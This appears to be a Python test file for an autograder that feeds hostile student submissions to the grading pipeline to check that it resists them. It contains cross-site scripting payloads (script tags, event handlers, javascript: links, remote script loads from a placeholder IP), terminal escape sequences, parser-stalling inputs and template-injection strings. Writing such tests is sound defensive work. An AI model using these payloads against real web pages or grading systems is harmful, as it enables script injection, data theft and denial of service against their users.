"""Attacks by texts: script, markup and terminal escapes in answers, outputs and names."""

from tests.grading.assignment import POINTS

from .attack import by_answers, by_code

SCRIPT = """\
<script>alert(31337)</script> <img src=x onerror="alert(31337)"> <svg onload=alert(31337)>
<iframe srcdoc="<script>alert(31337)</script>"></iframe> <a href="javascript:alert(31337)">a</a>
[a](javascript:alert(31337)) [b](JaVaScRiPt&colon;alert(31337)) ![c](x"onerror="alert(31337))
<style>@import 'http://192.0.2.1/attack_31337';</style> <base href="http://192.0.2.1/">
<form action="http://192.0.2.1/"><input autofocus onfocus=alert(31337)></form>
<meta http-equiv="refresh" content="0; url=http://192.0.2.1/"> <object data="x"></object>
</div></body></html><script src="http://192.0.2.1/attack_31337.js"></script>
<!-- <script> --> <math><mtext><script>alert(31337)</script></mtext></math> <p onclick=alert(31337)>
$\\href{javascript:alert(31337)}{x}$ $\\unicode{<script>alert(31337)</script>}$ <x:script>
"""
ESCAPES = "\x1b[2J\x1b]0;title\x07\x1b[31m\x9b31m\r\x08\u202e\ud800\x00"
RICH = (
    "text/html",
    "text/markdown",
    "text/latex",
    "image/svg+xml",
    "application/javascript",
    "application/vnd.jupyter.widget-view+json",
    "application/pdf",
    "text/plain",
    "image/png",
    'image/png" onerror="alert(31337)',
)

ATTACKS = [
    by_answers("script in a written answer", {"written": SCRIPT}),
    by_answers("terminal escapes in a written answer", {"written": ESCAPES}),
    by_answers("a written answer of a megabyte", {"written": 10**6 * "*["}),
    by_answers(
        "a written answer that takes long to read",
        {"written": 50_000 * "[" + 50_000 * "`" + 1000 * "> " + 10_000 * "<b"},
    ),
    by_answers(
        "a written answer in nbgrader's words",
        {"written": "{{ 7 * 7 }} {% raw %} YOUR ANSWER HERE"},
    ),
    by_answers("script in code", {"primes": f"x = '''{SCRIPT}'''\n# {SCRIPT.splitlines()[0]}"}),
    by_code("script in outputs", f"print('''{SCRIPT}''')\nraise ValueError('''{SCRIPT}''')\n"),
    by_code(
        "rich outputs",
        f"from IPython.display import *\nfor kind in {RICH!r}:\n"
        f"    display({{kind: {SCRIPT!r}}}, raw=True)\n    display({{kind: 31337}}, raw=True)\n"
        "    display({kind: {'a': [None]}}, raw=True, metadata={kind: {'isolated': True}})\n"
        f"display(HTML({SCRIPT!r}), Javascript('alert(31337)'))\n",
    ),
    by_code(
        "magics of the page",
        "get_ipython().run_cell_magic('html', '', '<script>alert(31337)</script>')\n"
        "get_ipython().run_cell_magic('javascript', '', 'alert(31337)')\n"
        "get_ipython().run_cell_magic('writefile', HOME + '/' + MARK, 'x')\n",
    ),
    by_code(
        "terminal escapes in outputs",
        f"text = {ESCAPES!r}\nprint(text)\nsys.stderr.write(text)\n"
        "os.write(1, text.encode('utf-8', 'surrogatepass'))\nraise ValueError(text)\n",
    ),
    by_answers(
        "terminal escapes and script in what a test sees",
        {
            "standardize": f"def standardize(x):\n    raise ValueError({ESCAPES + SCRIPT!r})\n",
            "count_words": f"def count_words(text):\n    return {ESCAPES + SCRIPT!r}\n",
            "primes": f"def primes(n):\n    raise type({ESCAPES[:-1]!r}, (Exception,), {{}})\n",
        },
    ),
    by_answers(
        "right answers and script",
        {
            "twice": f"print('''{SCRIPT}''')\ndef twice(f):\n    return lambda x: f(f(x))\n",
            "written": SCRIPT,
        },
        at_most=POINTS,
    ),
]
